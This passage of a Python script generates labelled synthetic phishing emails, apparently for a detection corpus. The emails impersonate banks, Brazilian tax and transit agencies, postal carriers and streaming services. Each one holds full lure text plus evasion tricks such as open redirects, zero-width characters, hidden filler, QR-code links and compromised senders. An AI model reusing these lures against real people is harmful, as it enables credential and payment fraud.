        row(f'<a href="{url}"><img src="https://i.ibb.co/3mVQ7Lp/nu-limite.png" width="536" alt="Nubank" style="display:block;width:100%;border:0"></a>', "0")
        + row(f'<p style="font-size:18px;color:#820ad1"><b>{zw("Parabéns! Seu novo limite está disponível", "nb2")}</b></p>'
              f'<p>{zw("Você foi pré-aprovado para um aumento de limite no seu cartão Nubank.", "nb3")} Novo limite: <b>R$ 8.500,00</b>.</p>'
              '<p>Para ativar, acesse pelo botão abaixo e confirme seus dados. A oferta é válida por 24 horas.</p>')
        + row(button(url, "Ativar novo limite", "#820ad1"), "6px 32px 26px")
        + row('<p style="font-size:10px;color:#aaa">Nu Pagamentos S.A. - Instituição de Pagamento.</p>' + pixel("https://track.nubenefici.com/o.gif?m=" + hx(n, 12)))))
    mail(n, "phishing", "Nubank 'limit increase pre-approved' lure: image and button both go through a Bing /ck/a open redirect (base64 target on pages.dev), zero-width characters in the visible text, tracking pixel.",
         prov="gmail", rcpt=R_GM1, t=t, tz=SP,
         frm=addr("Nubank", "atendimento@nubenefici.com"), subj="Renata, seu novo limite de R$ 8.500 está disponível",
         body=html_only(html, "base64"), mf="atendimento@nubenefici.com", ip="45.144.31.96", helo="mta1.nubenefici.com", rdns="mta1.nubenefici.com",
         dkim=[("nubenefici.com", "s2025", "pass")], dmarc=("pass", "QUARANTINE"),
         mid=mid_hex(n, "nubenefici.com", 24))

    # 15 --------------------------------------------------------------- Chase, compromised school Google Workspace, AMP redirect
    n = "chase-compromised-edu-amp-redirect"
    t = when(2023, 2, 8, 14, 52, 19)
    url = "https://www.google.com/amp/s/chase-online-verify.glitch.me/login"
    html = ('<div dir="ltr"><div style="font-family:Arial;font-size:14px;max-width:560px">'
            '<p style="color:#117aca;font-size:22px"><b>CHASE</b></p>'
            '<p>Dear Customer,</p><p>We detected unusual activity on your Chase online banking profile and have temporarily restricted access '
            'to protect your account. Case ID: CHS-2023-0208-44718.</p><p>To restore full access please verify your identity within 24 hours:</p>'
            f'<p><a href="{url}" style="background:#117aca;color:#fff;padding:10px 22px;text-decoration:none;border-radius:4px">Verify Now</a></p>'
            '<p>If we do not hear from you, your debit card and online access will remain suspended.</p>'
            '<p>Sincerely,<br>Chase Fraud Prevention<br>JPMorgan Chase Bank, N.A. Member FDIC</p></div></div>\n')
    plain = ("CHASE\n\nDear Customer,\n\nWe detected unusual activity on your Chase online banking profile and have temporarily restricted access. "
             "Case ID: CHS-2023-0208-44718.\n\nTo restore full access please verify your identity within 24 hours:\nVerify Now <" + url + ">\n\n"
             "Sincerely,\nChase Fraud Prevention\n")
    mail(n, "phishing", "Chase 'access restricted' lure sent from a compromised student mailbox on a college's Google Workspace (SPF/DKIM pass), link through a google.com/amp redirect to Glitch hosting.",
         prov="yahoo", rcpt=R_YH, t=t, tz=ZoneInfo("Africa/Nairobi"),
         frm=addr("Chase Online", "m.otieno@students.lakeviewpoly.ac.ke"), to="undisclosed-recipients:;",
         subj="Your Chase online access has been restricted",
         body=alt(plain, html, bnd("gmail", n)), mf="m.otieno@students.lakeviewpoly.ac.ke", ip="209.85.220.41", helo="mail-sor-f41.google.com",
         dkim=[("students.lakeviewpoly.ac.ke", "google", "pass")],
         hops=[f"Received: by mail-sor-f41.google.com (Google Transport Security)\n        for <{R_YH}>\n        (Google Transport Security);\n        {fmt(t - timedelta(seconds=1), PT, True)}"],
         mid=mid_gmail(n), order=["From", "Date", "Message-ID", "Subject", "To"])

    # 16 --------------------------------------------------------------- Wells Fargo PDF with link
    n = "wellsfargo-secure-message-pdf"
    t = when(2024, 3, 19, 15, 20, 44)
    pdfb = files.pdf(["WELLS FARGO", "Secure Message Center", "", "You have 1 new secure message regarding your account.",
                      "Subject: Important - Online Banking Access Suspended", "Reference: WF-SM-7732-0319",
                      "", "To read this message, click REVIEW DOCUMENT and sign on with your",
                      "Wells Fargo username and password. Messages expire after 72 hours.", "",
                      "Wells Fargo Bank, N.A. Member FDIC."],
                     link=("https://wfsecure-doc.com/sm/view?ref=WF-SM-7732-0319", (56, 560, 300, 600)), title="Secure Message")
    plain = ("You have received a secure message from Wells Fargo.\n\nPlease open the attached PDF document to view your message. "
             "For your security the message will expire in 72 hours.\n\nWells Fargo Online Customer Service\n")
    html = ('<html><body style="font-family:Verdana,Arial;font-size:13px"><table width="600" cellpadding="0" cellspacing="0">'
            '<tr><td style="background:#d71e28;padding:12px"><font color="#ffcd41" size="4"><b>WELLS FARGO</b></font></td></tr>'
            '<tr><td style="padding:18px">You have received a <b>secure message</b> from Wells Fargo.<br><br>Please open the attached PDF document to view '
            'your message. For your security the message will expire in 72 hours.<br><br>Wells Fargo Online Customer Service</td></tr></table></body></html>\n')
    body = Multi("mixed", bnd("next", n), [Multi("alternative", bnd("next", n + "a"), [text(plain), text(html, "html")]),
                                           att("application/pdf", "SecureMessage_WF-7732.pdf", pdfb)])
    mail(n, "phishing", "Wells Fargo 'secure message' with a PDF whose button links to a credential page; sender is a lookalike domain passing its own SPF/DKIM, the mail body itself has no link.",
         prov="gmail", rcpt=R_GM2, t=t, tz=NY,
         frm=addr("Wells Fargo Online", "securemessage@wf-securemessage.com"), subj="You have a new secure message (Ref: WF-SM-7732-0319)",
         body=body, mf="securemessage@wf-securemessage.com", ip="194.87.71.146", helo="mx.wf-securemessage.com", rdns="mx.wf-securemessage.com",
         dkim=[("wf-securemessage.com", "default", "pass")],
         mid=mid_hex(n, "wf-securemessage.com", 32))

    # 17 --------------------------------------------------------------- BofA Zelle, Google Slides
    n = "bofa-zelle-google-slides"
    t = when(2024, 6, 25, 17, 41, 8)
    url = "https://docs.google.com/presentation/d/e/2PACX-1v" + alnum(n, 80) + "/pub?start=false&loop=false&delayms=3000"
    html = html_doc(card(
        row('<p style="font-size:20px;color:#012169"><b>Bank of America</b> <span style="color:#e31837">&#9679;</span></p>', "20px 32px 0")
        + row('<p>You have received money with Zelle&reg;</p><p style="font-size:28px;color:#6d1ed4"><b>$1,250.00</b></p>'
              '<p>Sender: <b>ANDREW P. MORALES</b><br>Memo: rent refund<br>Status: <b>Pending - action required</b></p>'
              '<p>Because this is your first Zelle&reg; payment from this sender, you must accept the transfer and confirm the receiving account within 24 hours.</p>')
        + row(button(url, "Accept Payment", "#012169"), "8px 32px 24px")
        + row('<p style="font-size:11px;color:#777">Bank of America, N.A. Member FDIC. Zelle and the Zelle related marks are property of Early Warning Services, LLC.</p>')), lang="en")
    mail(n, "phishing", "Bank of America 'Zelle payment pending, accept it' lure; the button points to a published Google Slides deck (trusted domain) that carries the real phishing link.",
         prov="outlook", rcpt=R_OUT, t=t, tz=NY,
         frm=addr("Bank of America", "zelle-alerts@boa-notify-center.com"), subj="Zelle: You received $1,250.00 - action required",
         body=html_only(html), mf="zelle-alerts@boa-notify-center.com", ip="5.181.156.34", helo="boa-notify-center.com", rdns="vps-5-181-156-34.hostkey.com",
         mid=mid_hex(n, "boa-notify-center.com", 20))

    # 18 --------------------------------------------------------------- Banco Central valores a receber, Pix fee
    n = "bcb-valores-a-receber-taxa"
    t = when(2024, 7, 10, 10, 26, 31)
    url = "https://bit.ly/valores-bcb-2024"
    plain = ("BANCO CENTRAL DO BRASIL - Sistema Valores a Receber (SVR)\n\nPrezado(a) cidadão(ã),\n\nConsta em nosso sistema o valor de R$ 1.347,82 "
             "esquecido em instituições financeiras vinculado ao seu CPF.\n\nPara solicitar a transferência via Pix, acesse: " + url + "\n\n"
             "Atenção: é cobrada uma tarifa única de liberação de R$ 47,90, paga via Pix no momento da solicitação.\n"
             "Prazo para resgate: 15/07/2024.\n\nBanco Central do Brasil\n")
    html = html_doc(card(
        row('<table width="100%"><tr><td style="background:#1c3b6b;padding:14px;color:#fff;font-family:Arial"><b>BANCO CENTRAL DO BRASIL</b><br>'
            '<small>Sistema Valores a Receber</small></td></tr></table>', "0")
        + row('<p>Prezado(a) cidadão(ã),</p><p>Consta em nosso sistema o valor de <b>R$ 1.347,82</b> esquecido em instituições financeiras vinculado ao seu CPF.</p>'
              '<p>Atenção: é cobrada uma tarifa única de liberação de <b>R$ 47,90</b>, paga via Pix no momento da solicitação.</p>')
        + row(button(url, "Solicitar transferência", "#1c3b6b"), "4px 32px 24px")
        + row('<p style="font-size:11px;color:#888">Prazo para resgate: 15/07/2024.</p>')))
    mail(n, "phishing", "Banco Central 'forgotten money awaiting you' (Valores a Receber) advance-fee lure asking for a Pix release fee, throw-away .org sender, bit.ly link.",
         prov="uol", rcpt=R_UOL, t=t, tz=SP,
         frm=addr("Banco Central do Brasil", "valoresareceber@bcb-consulta.org"), subj="Valores a Receber: R$ 1.347,82 disponíveis no seu CPF",
         body=alt(plain, html, bnd("next", n)), mf="valoresareceber@bcb-consulta.org", ip="185.234.72.19", helo="srv1.bcb-consulta.org", rdns="srv1.bcb-consulta.org",
         spf="softfail", mid=mid_hex(n, "bcb-consulta.org", 24))

    # 19 --------------------------------------------------------------- Receita Federal CPF, compromised realtor, Netlify
    n = "receita-cpf-irregular-netlify"
    t = when(2023, 9, 5, 16, 9, 12)
    url = "https://regularizacao-cpf-gov.netlify.app/?protocolo=2023" + str(num(n, 100000, 999999))
    html = ('<html><body><div style="font-family:Arial;font-size:14px;color:#222;max-width:620px">'
            '<table width="100%"><tr><td style="border-bottom:3px solid #1351b4;padding:8px 0"><b style="color:#1351b4;font-size:18px">gov.br</b> &nbsp;'
            '<span style="color:#555">Receita Federal</span></td></tr></table>'
            '<h3>Notificação - Situação Cadastral: PENDENTE DE REGULARIZAÇÃO</h3>'
            '<p>Contribuinte,</p><p>Informamos que o seu CPF apresenta pendências referentes à Declaração de Imposto de Renda Pessoa Física 2023 '
            '(malha fina). Caso a situação não seja regularizada em até <b>72 horas</b>, o CPF será <b>suspenso</b> e poderá haver bloqueio de contas '
            'bancárias, restituição e emissão de passaporte.</p>'
            f'<p><a href="{url}"><b>Consultar pendências e emitir DARF</b></a></p>'
            '<p style="font-size:11px;color:#777">Secretaria Especial da Receita Federal do Brasil - Ministério da Fazenda</p></div></body></html>\n')
    mail(n, "phishing", "Receita Federal 'CPF pending regularisation, malha fina' lure from a hacked real-estate site's mailbox (SPF/DKIM pass), link to a Netlify page issuing fake DARF payments.",
         prov="terra", rcpt=R_TER, t=t, tz=SP,
         frm=addr("Receita Federal", "contato@imobiliariavalverde.com.br"), subj="Notificação: CPF pendente de regularização - prazo 72h",
         body=html_only(html), mf="contato@imobiliariavalverde.com.br", ip="191.252.134.61", helo="vps41277.publiccloud.com.br", rdns="vps41277.publiccloud.com.br",
         dkim=[("imobiliariavalverde.com.br", "x", "pass")],
         hops=[rx_exim("[192.168.0.104]", "138.199.35.77", "vps41277.publiccloud.com.br", t - timedelta(seconds=2), n, SP, "contato@imobiliariavalverde.com.br")],
         mid=f"<{hx(n, 32)}@imobiliariavalverde.com.br>", extra=["User-Agent: Roundcube Webmail/1.6.1"])

    # 20 --------------------------------------------------------------- Detran fine with Pix QR code
    n = "detran-multa-pix-qrcode"
    t = when(2024, 10, 15, 9, 58, 6)
    qr = files.qr_png("https://detran-sp-notificacoes.com/pix/AIT-4F82C1190")
    html = html_doc(card(
        row('<table width="100%"><tr><td style="background:#0b3d91;padding:14px;color:#fff;font-family:Arial"><b>DETRAN.SP</b> - Notificação de Autuação</td></tr></table>', "0")
        + row('<p>Prezado(a) proprietário(a),</p><p>Foi registrada infração de trânsito para o veículo vinculado ao seu CPF:</p>'
              '<table style="font-size:13px"><tr><td>Auto de Infração:</td><td><b>4F82C1190</b></td></tr><tr><td>Infração:</td><td>Transitar em velocidade superior à máxima permitida em até 20%</td></tr>'
              '<tr><td>Local:</td><td>Rod. dos Bandeirantes, km 42</td></tr><tr><td>Valor:</td><td><b>R$ 130,16</b></td></tr></table>'
              '<p>Pague com <b>40% de desconto (R$ 78,10)</b> pelo SNE até 20/10/2024 escaneando o QR Code Pix abaixo com o app do seu banco:</p>'
              '<p align="center"><img src="cid:qrpix@detran" width="220" height="220" alt="QR Code Pix"></p>')
        + row('<p style="font-size:11px;color:#888">Departamento Estadual de Trânsito de São Paulo.</p>')))
    body = Multi("related", bnd("next", n), [html_only(html), att("image/png", "qrcode.png", qr, inline=True, cid="qrpix@detran")], params=' type="text/html";')
    mail(n, "phishing", "Detran-SP speeding-fine notice with a '40% discount' Pix payment QR code as an inline image (no clickable link), from a lookalike domain.",
         prov="uol", rcpt=R_BOL, t=t, tz=SP,
         frm=addr("DETRAN.SP", "notificacao@detran-sp-notificacoes.com"), subj="Notificação de Autuação - AIT 4F82C1190 - pague com 40% de desconto",
         body=body, mf="notificacao@detran-sp-notificacoes.com", ip="147.78.47.202", helo="mail.detran-sp-notificacoes.com", rdns="mail.detran-sp-notificacoes.com",
         dkim=[("detran-sp-notificacoes.com", "mail", "pass")], dmarc=("pass", "NONE"),
         mid=mid_hex(n, "detran-sp-notificacoes.com", 28))

    # 21 --------------------------------------------------------------- Serasa Limpa Nome
    n = "serasa-nome-negativado-acordo"
    t = when(2025, 3, 4, 11, 45, 59)
    url = "https://serasa-limpanome-acordo.com/consulta?origem=email&cpf="
    html = html_doc(card(
        row('<p style="font-size:22px;color:#e80070"><b>serasa</b> <span style="color:#333;font-size:14px">limpa nome</span></p>', "20px 32px 0")
        + row('<p>Olá,</p><p>Seu <b>CPF está negativado</b> com 2 dívidas registradas no valor total de <b>R$ 2.718,40</b>.</p>'
              '<p>No <b>Feirão Serasa Limpa Nome</b> você quita tudo com até <b>99% de desconto</b> pagando apenas <b>R$ 89,90 via Pix</b>, '
              'e seu nome fica limpo em até 5 dias úteis.</p><p>Oferta válida somente até sexta-feira.</p>')
        + row(button(url, "Ver minhas dívidas e ofertas", "#e80070"), "6px 32px 24px")
        + row('<p style="font-size:10px;color:#999">Serasa S.A. Para não receber mais e-mails, responda com SAIR.</p>')))
    mail(n, "phishing", "Serasa 'your name is blacklisted, settle with 99% discount via Pix' lure from a compromised small-business Exim host, landing on a fake Limpa Nome page that collects a Pix payment.",
         prov="uol", rcpt=R_UOL, t=t, tz=SP,
         frm=addr("Serasa Limpa Nome", "atendimento@oticavisaoclara.com.br"), subj="CPF negativado: quite suas dívidas com até 99% de desconto",
         body=html_only(html), mf="atendimento@oticavisaoclara.com.br", ip="177.234.153.8", helo="sh-pro54.hostgator.com.br", rdns="sh-pro54.hostgator.com.br",
         dkim=[("oticavisaoclara.com.br", "default", "pass")],
         hops=[rx_exim("[127.0.0.1]", "103.251.167.10", "sh-pro54.hostgator.com.br", t - timedelta(seconds=1), n, SP, "atendimento@oticavisaoclara.com.br")],
         mid=mid_hex(n, "oticavisaoclara.com.br", 32), extra=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"])

    # 22 --------------------------------------------------------------- Correios taxa de importação
    n = "correios-taxa-importacao-encurtador"
    t = when(2023, 11, 28, 13, 37, 25)
    url = "https://encurtador.com.br/aeGP3"
    html = html_doc(hidden("Objeto LB482019334HK aguardando pagamento") + card(
        row('<table width="100%"><tr><td style="background:#ffd400;padding:14px"><font face="Arial" color="#00416b" size="5"><b>Correios</b></font></td></tr></table>', "0")
        + row('<p>Olá,</p><p>Sua encomenda internacional <b>LB482019334HK</b> foi tributada pela Receita Federal e está <b>aguardando pagamento</b>.</p>'
              '<table style="background:#f6f6f6;width:100%"><tr><td style="padding:10px">Imposto de importação: R$ 38,72<br>Despacho postal: R$ 15,00<br>'
              '<b>Total: R$ 53,72</b></td></tr></table><p>Realize o pagamento em até <b>5 dias</b> ou o objeto será devolvido ao remetente.</p>')
        + row(button(url, "Pagar e liberar objeto", "#00416b"), "8px 32px 24px")))
    mail(n, "phishing", "Correios 'import tax pending, pay or the parcel returns' lure from a throw-away .store domain with SPF softfail, Brazilian URL shortener.",
         prov="outlook", rcpt=R_HOT, t=t, tz=SP,
         frm=addr("Correios", "rastreamento@correios-encomendas.store"), subj="Encomenda LB482019334HK aguardando pagamento de taxa",
         body=html_only(html), mf="bounce@correios-encomendas.store", ip="91.92.244.83", helo="correios-encomendas.store", rdns="hosted-by.rootlayer.net",
         spf="softfail", mid=mid_hex(n, "correios-encomendas.store", 24))

    # 23 --------------------------------------------------------------- USPS package on hold
    n = "usps-package-hold-top-domain"
    t = when(2024, 11, 29, 20, 2, 41)
    url = "https://usps.com-trackvps.top/us"
    plain = ("USPS\n\nYour package could not be delivered on 11/29/2024 due to an incomplete address.\n"
             "Tracking Number: US9514961857346025\n\nPlease update your delivery information within 12 hours to schedule redelivery:\n" + url + "\n\n"
             "A redelivery fee of $0.30 applies.\n\nThe USPS Team\n")
    html = ("<html><body style='font-family:Arial'><div style='max-width:560px;margin:auto;border:1px solid #ccc'>"
            "<div style='background:#333366;color:#fff;padding:14px;font-size:20px'><b>USPS</b></div><div style='padding:18px'>"
            "<p>Your package could not be delivered on <b>11/29/2024</b> due to an incomplete address.</p><p>Tracking Number: <b>US9514961857346025</b></p>"
            f"<p>Please update your delivery information within 12 hours to schedule redelivery:</p><p><a href='{url}'>{url}</a></p>"
            "<p>A redelivery fee of $0.30 applies.</p><p>The USPS Team</p></div></div></body></html>\n")
    mail(n, "phishing", "USPS redelivery-fee lure (Black Friday) whose hostname starts with 'usps.com-' on a .top domain, visible URL shown in full.",
         prov="yahoo", rcpt=R_YH, t=t, tz=UTC,
         frm=addr("USPS Delivery", "info@mail-uspsdelivery.top"), subj="USPS: Delivery attempt failed - update your address",
         body=alt(plain, html, bnd("next", n)), mf="info@mail-uspsdelivery.top", ip="38.180.92.14", helo="mail-uspsdelivery.top",
         dkim=[("mail-uspsdelivery.top", "k1", "pass")], mid=mid_hex(n, "mail-uspsdelivery.top", 24))

    # 24 --------------------------------------------------------------- DHL FR
    n = "dhl-droits-douane-pagesdev-fr"
    t = when(2023, 5, 16, 8, 12, 30)
    url = "https://dhl-douane-fr.pages.dev/suivi?awb=4471930286"
    html = html_doc(card(
        row('<table width="100%"><tr><td style="background:#ffcc00;padding:14px"><font face="Arial" color="#d40511" size="5"><b><i>DHL</i></b></font></td></tr></table>', "0")
        + row('<p>Bonjour,</p><p>Votre envoi <b>4471930286</b> est arrivé au centre de tri de Roissy CDG mais ne peut être livré : '
              'des <b>droits de douane de 2,99 €</b> restent à régler.</p><p>Sans paiement sous 48 heures, le colis sera retourné à l\'expéditeur.</p>')
        + row(button(url, "Payer et programmer la livraison", "#d40511"), "8px 32px 24px")
        + row('<p style="font-size:11px;color:#888">DHL Express France - Ne pas répondre à ce message.</p>')), lang="fr")
    mail(n, "phishing", "DHL Express 'customs duties of EUR 2.99 due' lure in French from an unsigned throw-away domain (SPF neutral), link to Cloudflare Pages.",
         prov="orange", rcpt=R_ORA, t=t, tz=PARIS,
         frm=addr("DHL Express", "noreply@dhl-livraison-express.info"), subj="Votre colis DHL 4471930286 est en attente - droits de douane",
         body=html_only(html), mf="noreply@dhl-livraison-express.info", ip="195.133.18.40", helo="vm2871.dhl-livraison-express.info",
         spf="neutral", mid=mid_hex(n, "dhl-livraison-express.info", 24), subj_mode="Q")

    # 25 --------------------------------------------------------------- Colissimo plain text
    n = "colissimo-frais-plaintext"
    t = when(2024, 4, 9, 7, 48, 2)
    plain = ("Colissimo : votre colis n'a pas pu etre livre le 08/04/2024 (adresse incomplete).\n\n"
             "Pour reprogrammer la livraison, merci de regler les frais de reexpedition de 1,99 EUR avant le 10/04 :\n"
             "http://colissimo-relivraison.info/fr/\n\nNumero de suivi : 6A23419884712\n\nLa Poste - Colissimo\n")
    mail(n, "phishing", "Colissimo 'EUR 1.99 redelivery fee' lure in bare plain text without accents, SMS-style, plain http link on a throw-away .info domain.",
         prov="free", rcpt=R_FREE, t=t, tz=PARIS,
         frm=addr("Colissimo", "suivi@colissimo-relivraison.info"), subj="Colissimo : livraison en attente - 6A23419884712",
         body=text(plain, "plain", "7bit", "us-ascii"), mf="suivi@colissimo-relivraison.info", ip="80.66.88.145", helo="colissimo-relivraison.info",
         spf="pass", mid=f"<{num(n, 100000000, 999999999)}.{num(n + 'b', 1000, 9999)}@colissimo-relivraison.info>")

    # 26 --------------------------------------------------------------- Netflix EN, YouTube redirect
    n = "netflix-payment-youtube-redirect"
    t = when(2023, 1, 24, 3, 17, 52)
    target = "https://netflix-billing-center.com/account/update"
    url = "https://www.youtube.com/redirect?event=video_description&redir_token=QUFFLUhqa" + alnum(n, 60) + "&q=" + target.replace(":", "%3A").replace("/", "%2F")
    html = html_doc(card(
        row('<p style="color:#e50914;font-size:30px;font-weight:bold;font-family:Arial;margin:0">NETFLIX</p>', "24px 32px 0")
        + row('<h2 style="margin:0">Your membership is on hold</h2><p>Hi,</p><p>We were unable to process the payment for your next billing cycle. '
              'Please update your payment details to keep enjoying your shows and movies without interruption.</p>')
        + row(button(url, "UPDATE ACCOUNT", "#e50914"), "6px 32px 24px")
        + row('<p>We\'re here to help if you need it. Visit the Help Center for more info.</p><p>&mdash;The Netflix team</p>'
              + hidden("quarterly earnings outlook shipping fleet basketball recipe garden tomato harvest weekend forecast"))
        ), lang="en")
    mail(n, "phishing", "Netflix 'membership on hold, update payment' lure from a compromised small-business mailbox, button through a YouTube redirect, hidden word-salad filler.",
         prov="gmail", rcpt=R_GM2, t=t, tz=UTC,
         frm=addr("Netflix", "billing@brightsmiledentalcare.co.uk"), subj="Your membership is on hold - update your payment",
         body=html_only(html), mf="billing@brightsmiledentalcare.co.uk", ip="77.68.77.165", helo="smtp.livemail.co.uk", rdns="smtp.livemail.co.uk",
         dkim=[("brightsmiledentalcare.co.uk", "livemail", "pass")], dmarc=("pass", "NONE"),
         hops=[f"Received: from [185.225.74.31] (helo=WIN-3QK8N0H4T7E)\n\tby smtp.livemail.co.uk with esmtpsa (Exim 4.95)\n\t(envelope-from <billing@brightsmiledentalcare.co.uk>)\n\tid 1pKC5t-0007Qk-9M; {fmt(t - timedelta(seconds=2))}"],
         mid=f"<{hx(n, 8).upper()}-{hx(n + 'b', 4).upper()}-{hx(n + 'c', 4).upper()}@WIN-3QK8N0H4T7E>", to="undisclosed-recipients:;")

    # 27 --------------------------------------------------------------- Netflix FR, base64, hidden text
    n = "netflix-fr-compte-suspendu-base64"
    t = when(2024, 2, 27, 18, 30, 14)
    url = "https://netflix-fr-compte.web.app/connexion?id=" + hx(n, 12)
    html = html_doc(hidden("Votre abonnement Netflix a été suspendu. " + "&#847;&zwnj;&nbsp;" * 30) + card(
        row('<p style="color:#e50914;font-size:30px;font-weight:bold;font-family:Arial;margin:0">NETFLIX</p>', "24px 32px 0")
        + row('<h2>Votre compte a été suspendu</h2><p>Bonjour,</p><p>Nous n\'avons pas pu valider les informations de facturation associées à votre compte. '
              'Votre abonnement est donc suspendu.</p><p>Pour continuer à profiter de Netflix, veuillez mettre à jour vos informations de paiement '
              'dans les <b>48 heures</b>.</p>')
        + row(button(url, "Mettre à jour", "#e50914"), "6px 32px 24px")
        + row('<p>L\'équipe Netflix</p>' + hidden("Le jardin de Claire est magnifique au printemps, les tulipes et les jonquilles fleurissent le long de l'allée."))), lang="fr")
    mail(n, "phishing", "Netflix France 'account suspended' lure: base64 HTML with invisible preheader padding and hidden French prose, sender on a compromised Italian domain, link to Firebase hosting.",
         prov="orange", rcpt=R_ORA, t=t, tz=PARIS,
         frm=addr("Netflix", "info@agriturismo-poggiofiorito.it"), subj="Votre compte Netflix a été suspendu",
         body=html_only(html, "base64"), mf="info@agriturismo-poggiofiorito.it", ip="62.149.128.160", helo="smtpdh08.ad.aruba.it", rdns="smtpdh08.ad.aruba.it",
         dkim=[("agriturismo-poggiofiorito.it", "a1", "pass")],
         mid=mid_hex(n, "agriturismo-poggiofiorito.it", 32), extra=["X-Mailer: Open-Xchange Mailer v7.10.6-Rev42"])

    # 28 --------------------------------------------------------------- Spotify PT, Firebase
    n = "spotify-pagamento-firebase"
    t = when(2024, 8, 13, 22, 5, 38)
    url = "https://spotify-premium-br.firebaseapp.com/conta/pagamento"
    html = html_doc(card(
        row('<p style="color:#1db954;font-size:26px;font-family:Arial;margin:0"><b>Spotify</b></p>', "24px 32px 0")
        + row('<h2>Houve um problema com seu pagamento</h2><p>Oi, Marcos.</p><p>Tentamos cobrar sua assinatura do <b>Premium Família</b>, '
              'mas o pagamento não foi aprovado. Para continuar ouvindo sem anúncios, atualize sua forma de pagamento.</p>')
        + row(button(url, "ATUALIZAR PAGAMENTO", "#1db954"), "6px 32px 24px")
        + row('<p style="font-size:11px;color:#888">Spotify AB, Regeringsgatan 19, 111 53, Stockholm, Suécia</p>')))
    mail(n, "phishing", "Spotify Premium Família 'payment problem' lure from a lookalike .net domain passing SPF/DKIM, link to a Firebase-hosted card form.",
         prov="outlook", rcpt=R_HOT, t=t, tz=SP,
         frm=addr("Spotify", "no-reply@spotify-pagamentos.net"), subj="Marcos, houve um problema com seu pagamento",
         body=html_only(html), mf="no-reply@spotify-pagamentos.net", ip="194.36.191.88", helo="mail.spotify-pagamentos.net",
         dkim=[("spotify-pagamentos.net", "default", "pass")], dmarc=("pass", "NONE"), mid=mid_hex(n, "spotify-pagamentos.net", 24))

    # 29 --------------------------------------------------------------- Hotmail deactivation, compromised university O365, Weebly
    n = "hotmail-deactivation-weebly"
    t = when(2022, 10, 4, 6, 52, 11)
    url = "https://outlook-hotmail-verify-0922.weebly.com/"
    html = ('<html><head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>'
            '<div style="font-family:Segoe UI,Tahoma,sans-serif;font-size:14px">'
            '<p><b>Microsoft account</b></p><p style="font-size:24px;color:#2672ec">Hotmail Account Deactivation Request</p>'
            f'<p>Hi {R_HOT},</p><p>We received a request to deactivate your Hotmail account. This request will be processed within 24 hours.</p>'
            '<p>If this request was not made by you, kindly click <b>CANCEL REQUEST</b> below to keep your account active.</p>'
            f'<p><a href="{url}" style="color:#ffffff;background:#2672ec;padding:8px 16px;text-decoration:none">CANCEL REQUEST</a></p>'
            '<p>Thanks,<br>The Microsoft account team</p></div></body></html>\n')
    mail(n, "phishing", "Classic 'Hotmail account deactivation request, click cancel' lure from a compromised university Microsoft 365 mailbox (passes SPF/DKIM/DMARC), landing page on Weebly.",
         prov="outlook", rcpt=R_HOT, t=t, tz=ZoneInfo("Asia/Manila"),
         frm=addr("Microsoft Account Team", "jcsantos@ustboholcollege.edu.ph"), to="undisclosed-recipients:;",
         subj="Hotmail Account Deactivation Request",
         body=html_only(html), mf="jcsantos@ustboholcollege.edu.ph", ip="40.107.255.79",
         helo="APC01-PSA-obe.outbound.protection.outlook.com", rdns="mail-psaapc01on2079.outbound.protection.outlook.com",
         dkim=[("ustboholcollege.edu.ph", "selector1", "pass")], dmarc=("pass", "NONE"),
         mid=f"<SG2PR06MB5311{alnum(n, 14, True)}@SG2PR06MB5311.apcprd06.prod.outlook.com>",
         extra=["Content-Language: en-US", "X-MS-Has-Attach: ", "X-MS-TNEF-Correlator: "])

    # 30 --------------------------------------------------------------- Outlook quishing
    n = "outlook-mailbox-quota-qrcode"
    t = when(2024, 1, 30, 14, 6, 25)
    qr = files.qr_png(f"https://pub-{hx(n, 32)}.r2.dev/owa/index.html#{base64.b64encode(R_OUT.encode()).decode()}")
    html = ('<html><body><table width="560" style="font-family:Segoe UI,Arial;font-size:14px;border:1px solid #e1e1e1">'
            '<tr><td style="background:#0078d4;color:#fff;padding:14px;font-size:18px">Microsoft Outlook</td></tr>'
            f'<tr><td style="padding:20px"><p>Dear {R_OUT.split("@")[0]},</p><p>Your mailbox has exceeded its storage limit (<b>99.6%</b> of 15 GB). '
            '<b>17 incoming messages</b> are currently on hold and will be deleted after 48 hours.</p>'
            '<p>To release your messages and upgrade your storage for free, scan the QR code below with your phone camera.</p>'
            '<p align="center"><img src="cid:qr_0130@outlook" width="200" height="200"></p>'
            '<p style="font-size:11px;color:#888">Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p></td></tr></table></body></html>\n')
    body = Multi("related", bnd("next", n), [html_only(html), att("image/png", "image001.png", qr, inline=True, cid="qr_0130@outlook")], params=' type="text/html";')
    mail(n, "phishing", "Outlook 'mailbox over quota, messages on hold' quishing: the only call to action is a QR code image pointing to an R2 bucket page prefilled with the victim's address.",
         prov="outlook", rcpt=R_OUT, t=t, tz=UTC,
         frm=addr("Microsoft Outlook", "no-reply@mailbox-quota-services.com"), subj=f"Action required: 17 messages on hold for {R_OUT}",
         body=body, mf="no-reply@mailbox-quota-services.com", ip="103.75.201.44", helo="mailbox-quota-services.com",
         spf="pass", dkim=[("mailbox-quota-services.com", "default", "pass")], mid=mid_hex(n, "mailbox-quota-services.com", 20))

    # 31 --------------------------------------------------------------- Yahoo verify via Google Forms, GoDaddy compromised
    n = "yahoo-verify-google-forms"
    t = when(2022, 8, 16, 19, 31, 3)
    url = "https://docs.google.com/forms/d/e/1FAIpQLS" + alnum(n, 48) + "/viewform?usp=sf_link"
    plain = ("Yahoo Mail\n\nDear User,\n\nYour Yahoo account is due for verification. Our records show you have not verified your account since the "
             "last system upgrade. Accounts not verified within 48 hours will be permanently closed and all messages lost.\n\n"
             "Verify your account here: " + url + "\n\nThank you,\nYahoo Mail Customer Care\n")
    html = ('<div style="font-family:Helvetica,Arial;font-size:14px"><p style="color:#6001d2;font-size:24px"><b>yahoo!</b> mail</p>'
            '<p>Dear User,</p><p>Your Yahoo account is due for verification. Our records show you have not verified your account since the last system upgrade. '
            'Accounts not verified within 48 hours will be permanently closed and all messages lost.</p>'
            f'<p><a href="{url}">Verify your account here</a></p><p>Thank you,<br>Yahoo Mail Customer Care</p></div>\n')
    mail(n, "phishing", "Yahoo Mail 'verify or your account closes' lure sent from a hacked GoDaddy-hosted plumbing-supply mailbox, collecting the password on a genuine Google Forms page.",
         prov="yahoo", rcpt=R_YH, t=t, tz=ZoneInfo("America/Phoenix"),
